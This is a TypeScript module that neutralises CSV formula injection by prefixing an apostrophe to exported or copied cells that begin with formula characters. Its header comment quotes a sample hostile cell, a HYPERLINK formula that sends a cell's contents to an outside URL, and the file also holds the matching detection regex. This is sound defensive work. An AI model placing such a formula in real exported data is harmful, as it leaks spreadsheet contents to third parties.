/**
 * CSV formula injection (OWASP "CSV Injection"): a spreadsheet treats a cell that begins with `=`, `+`,
 * `-`, `@`, a tab or a carriage return as a formula, so a hostile artifact's cell such as
 * `=HYPERLINK("http://…?"&A1)` would run on the machine the excerpt is opened on. Every such cell gets a
 * leading apostrophe, which spreadsheets read as "text" and do not show. Pure: used by main on every
 * exported excerpt and every copy out of a table.
 */

const FORMULA_START = /^[=+\-@\t\r]/;

export function neutraliseCell(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/**
 * Rewrites RFC 4180 CSV text cell by cell (quoted or not), leaving the structure and every other byte as
 * it was. Inside quotes the check applies to the cell's value (after the opening quote).
 */
export function neutraliseCsv(csv: string): string {
  let out = '';
  let i = 0;
  const n = csv.length;
  while (i <= n) {
    // At the start of a field.
    if (csv[i] === '"') {
      out += '"';
      i++;
      if (FORMULA_START.test(csv.slice(i, i + 1))) out += "'";
      while (i < n) {
        if (csv[i] === '"') {
          if (csv[i + 1] === '"') {
            out += '""';
            i += 2;
            continue;
          }
          out += '"';
          i++;
          break;
        }
        out += csv[i];
        i++;
      }
      // Anything after the closing quote up to the delimiter is kept as it stands (lenient readers).
      while (i < n && csv[i] !== ',' && csv[i] !== '\n' && csv[i] !== '\r') out += csv[i++];
    } else {
      let end = i;
      while (end < n && csv[end] !== ',' && csv[end] !== '\n' && csv[end] !== '\r') end++;
      out += neutraliseCell(csv.slice(i, end));
      i = end;
    }
    if (i >= n) break;
    if (csv[i] === '\r' && csv[i + 1] === '\n') {
      out += '\r\n';
      i += 2;
    } else {
      out += csv[i];
      i++;
    }
    if (i === n) break;
  }
  return out;
}

/**
 * Text copied out of a table (cells separated by tabs, rows by line breaks, as spreadsheets paste it):
 * each cell neutralised. A tab or CR that begins a cell is a separator here, so the check is on what
 * follows it.
 */
export function neutraliseTableText(text: string): string {
  return text
    .split(/(\r\n|\n|\r)/)
    .map((part, index) => (index % 2 === 1 ? part : part.split('\t').map(neutraliseCell).join('\t')))
    .join('');
}
